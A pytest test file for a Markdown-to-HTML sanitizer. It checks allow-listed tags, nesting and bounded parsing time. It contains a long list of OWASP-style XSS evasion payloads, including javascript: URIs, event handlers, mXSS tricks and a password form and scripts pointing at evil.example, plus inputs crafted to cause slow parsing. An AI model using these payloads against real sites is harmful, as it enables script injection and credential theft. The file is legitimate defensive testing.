"""Markdown to safe HTML: nothing outside of the allow list, blocks that never nest, bounded time."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from linkify_it import LinkifyIt

from publisher.text import (
    _Addresses,
    feed_html,
    first_paragraph,
    html_to_text,
    link,
    page_html,
    paragraph,
    plain_text,
    text_as_html,
)

FEED_TAGS = {"p", "ul", "ol", "li", "a", "br", "strong", "em"}
PAGE_TAGS = FEED_TAGS | {
    *("b", "i", "h2", "h3", "h4", "blockquote", "code", "pre", "hr", "del", "sub", "sup"),
    *("table", "thead", "tbody", "tr", "th", "td", "dl", "dt", "dd"),
}
VOID = {"br", "hr"}
SCHEMES = ("http://", "https://", "mailto:")
ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")

# The classes of OWASP's XSS filter evasion list, each with a call that would be seen.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert('x')\">",
    '<IMG """><SCRIPT>alert("x")</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<body onload=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://ok.example/' onclick='alert(1)' style='color:red' target=_top>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](https://ok.example/ "\\"onmouseover=alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password><button>x</button></form>",
    "<video src=x onerror=alert(1)></video><audio src=https://evil.example/x></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<p>x]]><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<a href=https://ok.example/><a href='javascript:alert(1)'>x",
    "</p></description><script>alert(1)</script>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<p id=title name=body class=ad>x</p>",
]


class Outline(HTMLParser):
    """Reads markup strictly: every tag allowed, closed in order, and its attributes harmless."""

    def __init__(self, tags: set[str], attributes: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = tags, attributes
        self.stack: list[str] = []
        self.parents: list[tuple[str, ...]] = []
        self.text: list[tuple[tuple[str, ...], str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in self.tags, f"<{tag}> came through"
        for name, value in attrs:
            assert tag == "a", f"<{tag} {name}> came through"
            assert name in self.attributes, f"<{tag} {name}> came through"
            if name == "href" and re.match(r"[\s\x00-\x20]*[A-Za-z][A-Za-z0-9+.-]*:", value or ""):
                assert (value or "").lower().startswith(SCHEMES), f"{value!r} came through"
        self.parents.append((*self.stack, tag))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag not in VOID:
            assert self.stack, f"</{tag}> closes nothing"
            assert self.stack.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append((tuple(self.stack), data))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came through: {decl!r}")


def outline(markup: str, tags: set[str], attributes: set[str]) -> Outline:
    assert not ILLEGAL.search(markup)
    reader = Outline(tags, attributes)
    reader.feed(markup)
    reader.close()
    assert not reader.stack, f"never closed: {reader.stack}"
    return reader


def check_page(markdown: str) -> None:
    outline(page_html(markdown), PAGE_TAGS, {"href", "title", "rel"})


def check_feed(markdown: str) -> None:
    """What a feed may hold: an allowed structure of blocks, and inside of them marks that hold text only."""
    reader = outline(feed_html(markdown), FEED_TAGS, {"href"})
    for path in reader.parents:
        parent = path[-2] if len(path) > 1 else ""
        allowed = {
            "p": ("", "li"),
            "ul": ("", "li"),
            "ol": ("", "li"),
            "li": ("ul", "ol"),
        }.get(path[-1], ("p", "li", "a", "strong", "em"))
        assert parent in allowed, f"<{path[-1]}> inside of <{parent}>"
        assert path.count("a") <= 1
        assert path.count("strong") <= 1
        assert path.count("em") <= 1
    for parents, text in reader.text:
        assert not text.strip() or ("p" in parents or "li" in parents), f"{text!r} lies outside of any block"


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_comes_through_but_what_is_allowed(vector: str) -> None:
    for markdown in (vector, f"A **{vector}** b", f"> - {vector}\n\n# {vector}", f"| a |\n|-|\n| {vector} |"):
        check_page(markdown)
        check_feed(markdown)


def test_the_strict_reader_sees_what_must_not_be() -> None:
    for markup in (
        "<script>x</script>",
        "<p onclick=x>y</p>",
        "<a href='javascript:x'>y</a>",
        "<p>x",
        "<!--x-->",
    ):
        with pytest.raises(AssertionError):
            outline(markup, PAGE_TAGS, {"href"})


PIECES = st.sampled_from(
    [
        *VECTORS,
        *("<p>", "</p>", "<strong>", "</strong>", "<b>", "</em>", "<ul>", "<li>", "</ul>", "<div>", "</div>"),
        *("<button>", "<object>", "<marquee>", "<table>", "<td>", "<h1>", "</h2>", "<pre>", "</pre>", "<br>"),
        *("<a href='https://e.example/x?a=1&amp;b'>", "</a>", "<dt>", "<dd>", "<tr>", "https://e.example/"),
        *("# x\n", "- x\n", "  - y\n", "1. z\n", "> q\n", "\n\n", "**", "*", "`", "    x\n", "word", " "),
        *("|a|b|\n|-|-|\n|1|2|\n", "&#12;", "&#xFFFE;", "&amp;lt;"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=12).map("".join))
def test_any_mixture_of_markup_is_safe_and_well_formed(markdown: str) -> None:
    check_page(markdown)
    check_feed(markdown)
    assert not ILLEGAL.search(plain_text(markdown))
    assert "\n" not in first_paragraph(markdown)


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"))))
def test_any_text_is_safe_and_well_formed(markdown: str) -> None:
    check_page(markdown)
    check_feed(markdown)


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("A **b** *c*", "<p>A <strong>b</strong> <em>c</em></p>"),
        ("# Head\n\nText", "<p><strong>Head</strong></p>\n<p>Text</p>"),
        ("# **Head**", "<p><strong>Head</strong></p>"),
        ("- a\n- b\n  1. c\n", "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>"),
        ("- a\n\n- b\n", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
        ("> a\n>\n> b", "<p>a</p>\n<p>b</p>"),
        ("    x = 1\n    y = 2", "<p>x = 1<br>y = 2</p>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("<p><button><p>x</p></button></p>", "<p>x</p>"),
        ("<strong>\n\na\n\nb\n\n</strong>", "<p><strong>a</strong></p>\n<p><strong>b</strong></p>"),
        ("<div>a</div>b", "<p>a</p>\n<p>b</p>"),
        ("<ul></ul><p></p><strong></strong>", ""),
        ("[x](https://e.example/?a=1&b=2)", '<p><a href="https://e.example/?a=1&amp;b=2">x</a></p>'),
        ("[x](/way) [y](//e.example) [z](mailto:a@e.no)", '<p>x y <a href="mailto:a@e.no">z</a></p>'),
        ("https://e.example/x", '<p><a href="https://e.example/x">https://e.example/x</a></p>'),
        ("a & b < c > d ]]>", "<p>a &amp; b &lt; c &gt; d ]]&gt;</p>"),
        ("&amp;lt;script&amp;gt;", "<p>&amp;lt;script&amp;gt;</p>"),
        ("a &#12; b", "<p>a  b</p>"),
        ("![picture](https://e.example/x.png)", ""),
        ("", ""),
    ],
)
def test_feed_html(markdown: str, expected: str) -> None:
    assert feed_html(markdown) == expected


def test_a_row_of_a_table_is_a_line_with_its_cells_apart() -> None:
    html = feed_html("| one | two |\n|-|-|\n| 1 | 2 |\n")
    assert re.sub(r"\s+", " ", html) == "<p>one two</p> <p>1 2</p>"


def test_a_link_that_lost_its_address_is_text() -> None:
    hostile = "<a href='javascript:x' title='a &gt; b'>one *two*</a>, <a href='https://e.example/'>three</a>"
    assert page_html(hostile) == (
        '<p>one <em>two</em>, <a href="https://e.example/" rel="nofollow noopener">three</a></p>'
    )
    inner = "<table><tr><td><a href='https://e.example/' title='<a>'>z</a></td></tr></table>"
    nested = f"<a href='x:y'>{inner}</a>"
    assert page_html(nested).count("<a ") == page_html(nested).count("</a>") == 1


def test_no_attribute_stands_where_none_is_allowed() -> None:
    assert page_html("<p title='x' lang='y'>z</p>") == "<p>z</p>"


ADDRESSES = ["example.com", "//e.org/a", "http://e", "ftp://e.org", "a@b.no", "MAILTO:a@b.no", "localhost",
             "www.e.no", "10.0.0.1", "e.рф", "e.xn--p1ai", ".com", "..", "LOCALHOST:80"]  # fmt: skip


@settings(max_examples=200)
@given(st.lists(st.sampled_from(ADDRESSES) | st.text(":/@.-_<>|()  aåſK1", max_size=6), max_size=6))
def test_no_address_is_without_the_signs_that_are_looked_for_first(parts: list[str]) -> None:
    text = "".join(parts)
    links = LinkifyIt()
    assert not (links.pretest(text) and links.test(text)) or _Addresses().pretest(text)


def test_page_html_keeps_what_a_page_can_show() -> None:
    html = page_html(
        "# One\n\n###### Six\n\n| a |\n|-|\n| 1 |\n\n`code` ~~gone~~ [x](https://e.example/ 'T')"
    )
    assert "<h2>One</h2>" in html
    assert "<h4>Six</h4>" in html
    assert "<td>1</td>" in html
    assert "<code>code</code>" in html
    assert 'href="https://e.example/"' in html
    assert 'rel="nofollow noopener"' in html


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("# Head\n\nFirst *one*,\ntwo lines.\n\nSecond", "First one, two lines."),
        ("[The site][1] tells more.\n\n[1]: https://e.example", "The site tells more."),
        ("![](x.png)\n\nText", "Text"),
        ("<script>alert(1)</script>\n\nText", "Text"),
        ("- item\n- other", "item"),
        ("Use `<b>` & more", "Use <b> & more"),
        ("1\\. not a list", "1. not a list"),
        ("# Only a heading", ""),
        ("", ""),
    ],
)
def test_first_paragraph(markdown: str, expected: str) -> None:
    assert first_paragraph(markdown) == expected


def test_plain_text_keeps_the_order_of_things() -> None:
    text = plain_text(
        "# Head\n\nA & b\n\n- one\n- two\n\n> said\n\n|x|y|\n|-|-|\n|1|2|\n\n<script>no</script>"
    )
    assert text.split() == ["Head", "A", "&", "b", "•", "one", "•", "two", "said", "x", "y", "1", "2"]
    assert text.startswith("Head\n\nA & b\n\n• one\n• two\n\nsaid")


def test_html_to_text_reads_entities_once() -> None:
    assert html_to_text("<p>a &amp;amp; b &lt;i&gt;</p>") == "a &amp; b <i>"


@pytest.mark.parametrize("text", ["Q&A", "R & D", "1 < 2 > 1", "a <3 b", "“å”", "& amp;", "#1; &"])
def test_text_that_html_reads_as_it_stands_stays(text: str) -> None:
    assert text_as_html(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a <b> c", "a &lt;b&gt; c"),
        ("the tag </p>", "the tag &lt;/p&gt;"),
        ("<!-- a", "&lt;!-- a"),
        ("<?xml", "&lt;?xml"),
        ("write &amp; for &", "write &amp;amp; for &amp;"),
        ("&copy 2024", "&amp;copy 2024"),
        ("&#233;", "&amp;#233;"),
    ],
)
def test_text_that_html_would_take_for_something_else_is_escaped(text: str, expected: str) -> None:
    assert text_as_html(text) == expected
    assert html_to_text(text_as_html(text)) == text


def test_paragraph_and_link_escape_both_sides() -> None:
    assert paragraph("<b> & ]]>") == "<p>&lt;b&gt; &amp; ]]&gt;</p>"
    assert link('https://e.example/"><script>', "<i>") == (
        '<a href="https://e.example/&quot;&gt;&lt;script&gt;">&lt;i&gt;</a>'
    )


# What makes careless readers of Markdown or HTML take time that grows with the square of the length.
LONG = {
    "text": "word " * 20_000,
    "quotes": ">" * 100_000,
    "nested quotes": "\n".join("> " * depth + "x" for depth in range(300)),
    "nested lists": "\n".join("  " * depth + "- x" for depth in range(300)),
    "lists on a line": "- " * 50_000,
    "open brackets": "[" * 50_000,
    "links": "[a](" * 20_000,
    "stars": "*a_ " * 25_000,
    "ticks": "`a``b" * 20_000,
    "blocks": "<div>" * 20_000,
    "items": "<ul><li>" * 12_000,
    "comments": "<!--" * 25_000,
    "tags": "<a " * 30_000,
    "addresses": "http://" * 14_000,
    "entities": "&" * 100_000,
    "table": "|a" * 20_000 + "\n" + "|-" * 20_000,
    "marks": "<b><a href=https://e.example/>x" * 3_000,
}


@pytest.mark.parametrize("name", LONG)
def test_long_and_deep_input_takes_bounded_time(name: str) -> None:
    started = time.process_time()
    check_feed(LONG[name])
    # Ten times what the slowest takes on a slow machine, a hundredth of what its square would take.
    assert time.process_time() - started < 20
